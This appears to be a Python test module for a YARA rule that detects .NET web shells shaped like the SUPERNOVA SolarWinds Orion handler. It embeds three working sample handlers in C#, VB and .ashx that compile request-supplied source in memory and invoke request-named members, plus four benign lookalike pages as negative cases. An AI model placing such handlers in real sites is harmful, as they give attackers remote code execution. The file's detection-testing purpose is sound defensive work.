"""Rules from the thirty-third unseen collection: shells from intrusions into .NET products (issue 14, helper X33).

On first sight (BENCHMARKS.md, "Unseen shells, thirty-third collection: shells from intrusions into .NET products")
the own rules missed one page of the first batch: SUPERNOVA, the SolarWinds Orion logo handler, as its decompiled C#
was published. A loose ``.cs`` file is not compiled by ASP.NET, so only YARA reads it, and no rule knew its shape
(the behaviour analysis finds the same code as an ``.ashx`` or in ``App_Code``: sink ``compile``):

- ``EXT_WEBSHELL_Compiles_And_Runs_Named_Member`` (``data/rules/reflected_loaders.yar``): request-handling code
  (a server page, or an ``IHttpHandler``/``IHttpModule`` class in C# or VB) that compiles source text in memory
  (``CompileAssemblyFromSource``), creates an instance of the compiled assembly from a type name held in a
  variable and invokes a method looked up by a name held in a variable.

The shells below are harmless pages in that shape, written here: the compiled text is whatever the request sends,
as in the collected handler, but nothing is compiled or run by the tests, and none is a copy of the real code (the
class, the parameters and the decoy output differ). The ordinary pages are the closest everyday code: a report
engine that compiles a template it keeps and calls members it names with literals, a snippet checker that
compiles request text only to list compiler errors, a plug-in host that invokes a method named by the request on
an assembly loaded from its own folder (no compiler), and a logo handler serving an image with no compiler at all.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, behaviour_sinks, rule_tables

_RULE = "EXT_WEBSHELL_Compiles_And_Runs_Named_Member"

SHELLS: list[Page] = [
    (
        "handler-class-compiles-request-source",
        ".cs",
        "using System;\nusing System.CodeDom.Compiler;\nusing System.Web;\nusing Microsoft.CSharp;\n\n"
        "public class BannerHandler : IHttpHandler\n{\n"
        "    public bool IsReusable { get { return false; } }\n\n"
        "    public void ProcessRequest(HttpContext ctx)\n    {\n"
        '        string src = ctx.Request["s"];\n        string typeName = ctx.Request["t"];\n'
        '        string member = ctx.Request["m"];\n'
        "        if (src != null) ctx.Response.Write(Run(src, typeName, member));\n"
        '        ctx.Response.ContentType = "image/png";\n    }\n\n'
        "    private string Run(string src, string typeName, string member)\n    {\n"
        "        var opts = new CompilerParameters();\n        opts.GenerateInMemory = true;\n"
        '        opts.ReferencedAssemblies.Add("System.dll");\n'
        "        CompilerResults res = new CSharpCodeProvider().CompileAssemblyFromSource(opts, src);\n"
        "        if (res.Errors.HasErrors) return res.Errors.Count.ToString();\n"
        "        object o = res.CompiledAssembly.CreateInstance(typeName);\n"
        "        return Convert.ToString(o.GetType().GetMethod(member).Invoke(o, null));\n    }\n}\n",
    ),
    (
        "vb-handler-compiles-request-source",
        ".vb",
        "Imports System.CodeDom.Compiler\nImports System.Web\n\n"
        "Public Class ThumbHandler\n    Implements IHttpHandler\n\n"
        "    Public Sub ProcessRequest(ByVal c As HttpContext) Implements IHttpHandler.ProcessRequest\n"
        '        Dim code As String = c.Request.Form("code")\n        Dim cls As String = c.Request.Form("cls")\n'
        '        Dim fn As String = c.Request.Form("fn")\n'
        "        Dim p As New CompilerParameters()\n        p.GenerateInMemory = True\n"
        "        Dim r As CompilerResults = New VBCodeProvider().CompileAssemblyFromSource(p, code)\n"
        "        Dim inst As Object = r.CompiledAssembly.CreateInstance(cls)\n"
        "        c.Response.Write(inst.GetType().GetMethod(fn).Invoke(inst, Nothing))\n    End Sub\n\n"
        "    Public ReadOnly Property IsReusable As Boolean Implements IHttpHandler.IsReusable\n"
        "        Get\n            Return False\n        End Get\n    End Property\nEnd Class\n",
    ),
    (
        "ashx-initializer-compiles-request-source",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="IconHandler" %>\nusing System.CodeDom.Compiler;\nusing System.Web;\n'
        "using Microsoft.CSharp;\n\npublic class IconHandler : IHttpHandler\n{\n"
        "    public bool IsReusable { get { return false; } }\n"
        "    public void ProcessRequest(HttpContext context)\n    {\n"
        '        var k = context.Request["k"]; var n = context.Request["n"]; var f = context.Request["f"];\n'
        "        CompilerResults r = new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters\n"
        '        {\n            ReferencedAssemblies = { "System.dll" },\n            GenerateInMemory = true\n'
        "        }, k);\n        object x = r.CompiledAssembly.CreateInstance(n);\n"
        "        context.Response.Write(x.GetType().GetMethod(f).Invoke(x, new object[0]));\n    }\n}\n",
    ),
]

ORDINARY: list[Page] = [
    (
        "report-engine-compiles-own-template",
        ".cs",
        "using System.CodeDom.Compiler;\nusing System.IO;\nusing System.Web;\nusing Microsoft.CSharp;\n\n"
        "public class ReportHandler : IHttpHandler\n{\n    public bool IsReusable { get { return true; } }\n"
        "    public void ProcessRequest(HttpContext ctx)\n    {\n"
        '        string id = ctx.Request["id"];\n'
        '        string src = File.ReadAllText(ctx.Server.MapPath("~/App_Data/report.cs.txt"));\n'
        "        var opts = new CompilerParameters { GenerateInMemory = true };\n"
        "        var res = new CSharpCodeProvider().CompileAssemblyFromSource(opts, src);\n"
        '        object r = res.CompiledAssembly.CreateInstance("Reports.Generated");\n'
        '        ctx.Response.Write(r.GetType().GetMethod("Render").Invoke(r, new object[] { id }));\n    }\n}\n',
    ),
    (
        "snippet-checker-lists-compiler-errors",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.CodeDom.Compiler" %>\n'
        '<%@ Import Namespace="Microsoft.CSharp" %>\n<script runat="server">\n'
        "protected void Check(object s, EventArgs e)\n{\n"
        "    var p = new CompilerParameters { GenerateInMemory = false, GenerateExecutable = false };\n"
        '    var r = new CSharpCodeProvider().CompileAssemblyFromSource(p, Request.Form["snippet"]);\n'
        "    foreach (CompilerError err in r.Errors)\n"
        '        Errors.Text += Server.HtmlEncode(err.ErrorText) + "<br/>";\n}\n</script>\n'
        '<asp:Label ID="Errors" runat="server" />\n',
    ),
    (
        "plugin-host-invokes-named-method-without-compiler",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="PluginHost" %>\nusing System.Reflection;\nusing System.Web;\n\n'
        "public class PluginHost : IHttpHandler\n{\n    public bool IsReusable { get { return true; } }\n"
        "    public void ProcessRequest(HttpContext context)\n    {\n"
        '        string action = context.Request["action"];\n'
        '        Assembly a = Assembly.LoadFrom(context.Server.MapPath("~/bin/Plugins.Export.dll"));\n'
        '        object p = a.CreateInstance("Plugins.Export.Csv");\n'
        "        context.Response.Write(p.GetType().GetMethod(action).Invoke(p, null));\n    }\n}\n",
    ),
    (
        "logo-handler-serves-image",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="LogoHandler" %>\nusing System;\nusing System.IO;\nusing System.Web;\n\n'
        "public class LogoHandler : IHttpHandler\n{\n    public bool IsReusable { get { return false; } }\n"
        "    public void ProcessRequest(HttpContext context)\n    {\n"
        '        string id = context.Request.QueryString["id"];\n'
        '        string file = id == "NocLogo" ? "~/images/noc.png" : "~/images/site.png";\n'
        "        byte[] data = File.ReadAllBytes(context.Server.MapPath(file));\n"
        '        context.Response.ContentType = "image/png";\n'
        "        context.Response.OutputStream.Write(data, 0, data.Length);\n    }\n}\n",
    ),
]

CASES: list[RuleCase] = [(_RULE, SHELLS, ORDINARY)]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES, log_url="/Orion/LogoImageHandler.ashx")


def test_the_ashx_shape_is_also_found_by_behaviour(tmp_path: Path, params: content.ContentParams) -> None:
    """Where ASP.NET compiles the handler itself (an ``.ashx`` page), the behaviour analysis names the same code: the
    rule is for the source file nobody compiles (a published decompilation, a file left beside the site)."""
    case, ext, page = SHELLS[2]
    assert "compile" in behaviour_sinks(tmp_path, f"{case}{ext}", page, params)
